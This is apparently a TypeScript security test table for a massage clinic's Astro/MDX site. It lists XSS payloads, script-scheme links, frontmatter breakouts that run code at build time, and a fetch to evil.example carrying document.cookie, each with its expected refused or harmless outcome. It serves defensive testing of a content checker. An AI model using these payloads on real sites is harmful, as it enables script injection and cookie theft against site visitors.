// The security table: what someone with editor access might write to make the site run, redirect,
// submit or load something. Written by the team from the classes in issue 27 and from the usual XSS
// cheat-sheet shapes (handlers, disguised schemes, reference links, SVG and MathML, broken-out
// attributes, JSON-LD breakouts). Each row goes through the editor's pre-save check and the build's
// pre-check (tests/unit/security-table.test.ts); every row that is published is built and its page
// read with an HTML parser (tests/build/security-build.test.ts).

/** A file an attack writes: a new post's body, or a change to an existing file. */
export type AttackTarget =
  | { kind: "post-body"; body: string }
  | { kind: "post-field"; field: "title" | "description"; value: string }
  | { kind: "file"; file: string; change: (text: string) => string };

export interface Attack {
  name: string;
  target: AttackTarget;
  /**
   * `refused`: the check stops it, with a line that names the file and `names` (the element, the
   * attribute or the field). `harmless`: published, and nothing on the page runs, redirects or submits.
   */
  outcome: { refused: string } | "harmless";
}

const body = (text: string): AttackTarget => ({ kind: "post-body", body: text });
const refused = (names: string) => ({ refused: names });

/** Adds a booking address setting (giftCardsUrl, …) under `booking:` in content/settings.yaml. */
const bookingSetting =
  (key: string, value: string) =>
  (text: string): string => {
    if (!/^booking:\n/m.test(text)) throw new Error("security table: no booking: block in the settings");
    return text.replace(/^booking:\n/m, `booking:\n  ${key}: ${value}\n`);
  };

/**
 * A post's frontmatter rewritten: `rewrite` gets the opening line and the fields (through their
 * last line break) and returns them with the closing line.
 */
const postFields = (rewrite: (fields: string) => string): AttackTarget => ({
  kind: "file",
  file: "content/posts/massage-stress-and-sleep.mdx",
  change: (text) => {
    const closing = /^(---\n[\s\S]*?\n)---\n/.exec(text);
    if (!closing) throw new Error("security table: no frontmatter in massage-stress-and-sleep.mdx");
    return text.replace(closing[0], rewrite(closing[1]!));
  },
});

/** Sets the booking URL in content/settings.yaml. */
const bookingUrl = (value: string) => (text: string) => {
  if (!/^ {2}url: .*$/m.test(text)) throw new Error("security table: no booking url in the settings");
  return text.replace(/^ {2}url: .*$/m, `  url: ${value}`);
};

/** One social link in content/settings.yaml. */
const socialLink = (url: string) => (text: string) => {
  if (!/^social: \[\]$/m.test(text)) throw new Error("security table: social is not empty in the settings");
  return text.replace(/^social: \[\]$/m, `social:\n  - name: Instagram\n    url: ${url}`);
};

/** A question added to content/faq.yaml, each part written as a YAML scalar (escapes and all). */
const faqQuestion = (question: string, answer: string): AttackTarget => ({
  kind: "file",
  file: "content/faq.yaml",
  change: (text) => {
    if (!/^questions:\n/m.test(text)) throw new Error("security table: no questions: in the FAQ");
    return text.replace(/^questions:\n/m, `questions:\n  - question: ${question}\n    answer: ${answer}\n`);
  },
});

export const ATTACKS: readonly Attack[] = [
  // Elements that run, load, redirect or submit.
  { name: "script element", target: body("<script>alert(1)</script>"), outcome: refused("<script>") },
  {
    name: "handler behind a > in a quoted title",
    target: body('<div title=">" onmouseover="alert(1)">x</div>'),
    outcome: refused("<div>"),
  },
  {
    name: "handler on an allowed element",
    target: body('<span title=">" onmouseover="alert(1)">x</span>'),
    outcome: refused("onmouseover"),
  },
  {
    name: "handler in JSX case",
    target: body('<abbr onClick="alert(1)">x</abbr>'),
    outcome: refused("onClick"),
  },
  {
    name: "meta refresh to another site",
    target: body('<meta http-equiv="refresh" content="0;url=https://evil.example/" />'),
    outcome: refused("<meta>"),
  },
  { name: "base href", target: body('<base href="https://evil.example/" />'), outcome: refused("<base>") },
  {
    name: "form posting elsewhere",
    target: body('<form action="https://evil.example/"><input name="card" /></form>'),
    outcome: refused("<form>"),
  },
  {
    name: "button with formAction",
    target: body('<button formAction="https://evil.example/">Pay</button>'),
    outcome: refused("<button>"),
  },
  {
    name: "iframe",
    target: body('<iframe src="https://evil.example/"></iframe>'),
    outcome: refused("<iframe>"),
  },
  {
    name: "object",
    target: body('<object data="https://evil.example/x.swf"></object>'),
    outcome: refused("<object>"),
  },
  { name: "embed", target: body('<embed src="https://evil.example/x.swf" />'), outcome: refused("<embed>") },
  {
    name: "SVG animate setting href",
    target: body(
      '<svg><a><animate attributeName="href" values="javascript:alert(1)" /><text>x</text></a></svg>',
    ),
    outcome: refused("<svg>"),
  },
  {
    name: "MathML wrapping a link",
    target: body('<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>'),
    outcome: refused("<math>"),
  },
  { name: "img with onerror", target: body('<img src="x" onerror="alert(1)" />'), outcome: refused("<img>") },
  {
    name: "style element",
    target: body("<style>{'body{display:none}'}</style>"),
    outcome: refused("<style>"),
  },
  {
    name: "stylesheet link",
    target: body('<link rel="stylesheet" href="https://evil.example/x.css" />'),
    outcome: refused("<link>"),
  },
  {
    name: "noscript breakout",
    target: body('<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>'),
    outcome: refused("<noscript>"),
  },
  {
    name: "template holding a script",
    target: body("<template><script>alert(1)</script></template>"),
    outcome: refused("<template>"),
  },
  {
    name: "full-page overlay by style",
    target: body('<a href="/quiz/" style="position:fixed;inset:0">x</a>'),
    outcome: refused('style="…" on <a>'),
  },
  // Found in review (2026-12-07): components put Astro's HTML where a private-use mark stood, also
  // inside an attribute the content wrote, so a post's own markup broke out of it as new attributes.
  {
    name: "slot mark in a callout's title, carrying the body's markup into attributes",
    target: body(
      '<Callout kind="note" title="&#xE000;body&#xE000;">\nTip: <span lang="a data-pagefind-meta=url:https://evil.example/ b">stretch</span> daily.\n</Callout>',
    ),
    outcome: "harmless",
  },
  {
    name: "slot mark in a link's title, making the link a full-page overlay",
    target: body(
      'Read [<span lang="x class=video__play y">the guide</span>](https://evil.example/landing "&#xE000;text&#xE000;") for more.',
    ),
    outcome: "harmless",
  },
  {
    name: "target=_blank opener",
    target: body('<a href="https://evil.example/" target="_blank">x</a>'),
    outcome: refused('target="…" on <a>'),
  },

  // Script and data links, in every place Markdown and MDX put a URL.
  {
    name: "a href javascript:",
    target: body('<a href="javascript:alert(1)">x</a>'),
    outcome: refused("link"),
  },
  {
    name: "upper-case HREF with an entity-encoded scheme",
    target: body('<a HREF="jav&#x61;script:alert(1)">x</a>'),
    outcome: refused("link"),
  },
  {
    name: "tab inside the scheme",
    target: body('<a href="java&#9;script:alert(1)">x</a>'),
    outcome: refused("link"),
  },
  {
    name: "brackets in the link text",
    target: body("[a [b] c](javascript:alert(1))"),
    outcome: refused("link"),
  },
  {
    name: "link text over two lines",
    target: body("[a link\ntext over two lines](javascript:alert(1))"),
    outcome: refused("link"),
  },
  {
    name: "reference definition on the next line",
    target: body("[x][r]\n\n[r]:\n  javascript:alert(1)"),
    outcome: refused("link"),
  },
  {
    name: "reference inside a quote",
    target: body("> [x][q]\n>\n> [q]: javascript:alert(1)"),
    outcome: refused("link"),
  },
  {
    name: "reference inside a list item",
    target: body("- item [x][l]\n\n  [l]: javascript:alert(1)"),
    outcome: refused("link"),
  },
  { name: "mixed-case scheme", target: body("[x](JaVaScRiPt:alert(1))"), outcome: refused("link") },
  {
    name: "named entity for the colon",
    target: body("[x](javascript&colon;alert(1))"),
    outcome: refused("link"),
  },
  {
    name: "data: HTML link",
    target: body("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    outcome: refused("link"),
  },
  { name: "vbscript:", target: body("[x](vbscript:msgbox(1))"), outcome: refused("link") },
  { name: "protocol-relative link", target: body("[x](//evil.example/)"), outcome: refused("link") },
  { name: "backslash host", target: body("[x](/\\evil.example/)"), outcome: refused("link") },

  // Code: nothing in content/ runs while the site is built or in the preview.
  {
    name: "expression in the text",
    target: body("{fetch('https://evil.example/' + document.cookie)}"),
    outcome: refused("{fetch"),
  },
  {
    name: "expression as a value",
    target: body("<Callout title={alert(1)}>x</Callout>"),
    outcome: refused("title={alert(1)}"),
  },
  {
    name: "spread attributes",
    target: body("<Callout {...{ onClick: 1 }}>x</Callout>"),
    outcome: refused("{...{ onClick: 1 }}"),
  },
  { name: "import line", target: body('import fs from "node:fs";\n\nText.'), outcome: refused("import") },
  {
    name: "export line",
    target: body("export const x = process.exit(1);\n\nText."),
    outcome: refused("export"),
  },
  {
    // The MDX compiler ends the frontmatter only at --- with spaces after it, not a tab: there it
    // read the fields as the body, so code in a field ran at build time while the check, which
    // ended the frontmatter there, saw a clean body (found by the compiler's own reading, 2026-12-07).
    name: "frontmatter closed with a tab, code in a field",
    target: postFields((fields) => `${fields.replace(/^title: "/m, 'title: "{process.exit(1)} ')}---\t\n`),
    outcome: refused("frontmatter"),
  },

  ...["---x:", "+++"].map((fence): Attack => ({
    // Astro ends the frontmatter at the first line that starts with --- or +++, whatever follows:
    // the lines after it were compiled as the page while the check read them as fields, and an
    // export there ran in `astro build` and `astro dev` (found by the red team, 2026-12-08).
    name: `a fields line starting ${fence}, code after it`,
    target: postFields(
      (fields) => `${fields}${fence}\n\nexport const ran = process.getBuiltinModule("node:fs") // :\n---\n`,
    ),
    outcome: refused(`The line “${fence}” ends the frontmatter`),
  })),

  // Pictures.
  {
    name: "Figure with a script source",
    target: body('<Figure src="javascript:alert(1)" alt="x" />'),
    outcome: refused("javascript:alert(1) is not allowed"),
  },
  {
    name: "tracking image from another site",
    target: body("![x](https://evil.example/pixel.png)"),
    outcome: refused("image"),
  },
  {
    // CommonMark keeps a label's first definition; the check kept the last and passed the page a
    // picture from another site (found by a review of the rules, 2026-12-07).
    name: "image reference defined twice, the first on another site",
    target: body("![Treatment room][r]\n\n[r]: https://evil.example/pixel.png\n[r]: /favicon.svg"),
    outcome: refused("image"),
  },
  {
    name: "shortcut image reference defined twice",
    target: body("![r]\n\n[r]: https://evil.example/pixel.png\n[r]: /favicon.svg"),
    outcome: refused("image"),
  },
  {
    name: "image reference whose first definition is inside a quote",
    target: body("![Room][q]\n\n> [q]: https://evil.example/pixel.png\n\n[q]: /favicon.svg"),
    outcome: refused("image"),
  },
  {
    name: "YouTube id breaking out of its attribute",
    target: body('<YouTube id={"dQw4w9WgXcQ\\" onload=\\"alert(1)"} title="x" />'),
    outcome: refused("id={"),
  },

  // Settings and the site's words: read after YAML has decoded them, URLs after placeholders.
  {
    name: "social link hiding a script behind braces",
    target: {
      kind: "file",
      file: "content/settings.yaml",
      change: socialLink('"javascript://a{ }b/%0aalert(1)"'),
    },
    outcome: refused("social.0.url"),
  },
  {
    name: "gift cards address with javascript:",
    target: {
      kind: "file",
      file: "content/settings.yaml",
      change: bookingSetting("giftCardsUrl", '"javascript:alert(1)"'),
    },
    outcome: refused("giftCardsUrl"),
  },
  {
    name: "booking address with a script scheme around the placeholder",
    target: {
      kind: "file",
      file: "content/settings.yaml",
      change: bookingUrl('"javascript:alert(1)//{service}"'),
    },
    outcome: refused("booking.url"),
  },
  {
    name: "FAQ link whose bracket is a YAML escape",
    target: faqQuestion('"Can I pay later?"', '"[Pay here]\\x28javascript:alert(1))"'),
    outcome: refused("link"),
  },
  {
    name: "site words with a data: link",
    target: faqQuestion('"Where?"', '"See [the map](data:text/html,x)."'),
    outcome: refused("link"),
  },

  // Published, and harmless: the words are shown as words.
  {
    name: "a script scheme as plain text",
    target: body("Never click javascript:alert(1) in an email."),
    outcome: "harmless",
  },
  {
    name: "a script tag in inline code",
    target: body("Code looks like `<script>alert(1)</script>`."),
    outcome: "harmless",
  },
  { name: "escaped angle bracket", target: body("Write \\<script> to see it as text."), outcome: "harmless" },
  {
    name: "entities spelling a tag",
    target: body("&lt;img src=x onerror=alert(1)&gt; is text."),
    outcome: "harmless",
  },
  {
    name: "an https link carrying a script scheme in its query",
    target: body("[x](https://example.org/?next=javascript:alert(1))"),
    outcome: "harmless",
  },
  {
    name: "link title with quotes",
    target: body('[x](/quiz/ "a\\" onmouseover=\\"alert(1)")'),
    outcome: "harmless",
  },
  {
    name: "abbr title with encoded quotes",
    target: body('<abbr title="&quot; onmouseover=&quot;alert(1)">ROM</abbr>'),
    outcome: "harmless",
  },
  {
    name: "lang with encoded quotes",
    target: body('<span lang="en&quot; onmouseover=&quot;x">x</span>'),
    outcome: "harmless",
  },
  {
    name: "mailto with an encoded tag",
    target: body("[mail](mailto:a@example.com?subject=%3Cscript%3E)"),
    outcome: "harmless",
  },
  {
    name: "code block of HTML",
    target: body("```html\n<script>alert(1)</script>\n```"),
    outcome: "harmless",
  },
  {
    name: "fragment link titled like a script",
    target: body('<a href="#top" title="javascript:alert(1)">x</a>'),
    outcome: "harmless",
  },
  { name: "phone link", target: body("[Call us](tel:+15550100)"), outcome: "harmless" },
  {
    name: "title breaking out of <title> and JSON-LD",
    target: {
      kind: "post-field",
      field: "title",
      value: "Back care </title></script><script>alert(1)</script>",
    },
    // Refused since 2026-12-07: a feed reader shows a title as written, so markup in it is refused.
    outcome: refused("title"),
  },
  {
    name: "description breaking out of its meta tag",
    target: {
      kind: "post-field",
      field: "description",
      value: 'A careful look at back pain and massage, written for readers. "><script>alert(1)</script>',
    },
    outcome: "harmless",
  },
  {
    name: "FAQ answer with a tag in its words",
    target: faqQuestion(
      '"Is <img src=x onerror=alert(1)> safe?"',
      '"It is shown as text </script><script>alert(1)</script>."',
    ),
    outcome: "harmless",
  },
];

/** A new post holding an attack, otherwise complete, so only the attack can be refused. */
export function attackPost(attack: Attack, index: number): { file: string; text: string } | undefined {
  const { target } = attack;
  if (target.kind === "file") return undefined;
  const field = (name: "title" | "description", fallback: string) =>
    target.kind === "post-field" && target.field === name ? target.value : fallback;
  return {
    file: `content/posts/security-${String(index + 1).padStart(2, "0")}.mdx`,
    text: `---
title: ${JSON.stringify(field("title", `Security table row ${index + 1}`))}
description: ${JSON.stringify(field("description", "A post written by the security table: it holds one attack and nothing else of note."))}
pubDate: 2026-01-02
author: clinical-team
tags: [back-pain]
sources: []
reviewedBy: clinical-team
reviewedDate: 2026-03-01
---

Row ${index + 1} of the security table.

${target.kind === "post-body" ? target.body : "The attack is in the frontmatter."}
`,
  };
}

/** The security table's published rows as changes to the site: each post, and the files' changes in order. */
export function harmlessChanges(): Record<string, (text: string) => string> {
  const changes: Record<string, (text: string) => string> = {};
  ATTACKS.forEach((attack, index) => {
    if (attack.outcome !== "harmless") return;
    const post = attackPost(attack, index);
    if (post) changes[post.file] = () => post.text;
    else if (attack.target.kind === "file") {
      const { file, change } = attack.target;
      const earlier = changes[file];
      changes[file] = (text) => change(earlier ? earlier(text) : text);
    }
  });
  return changes;
}
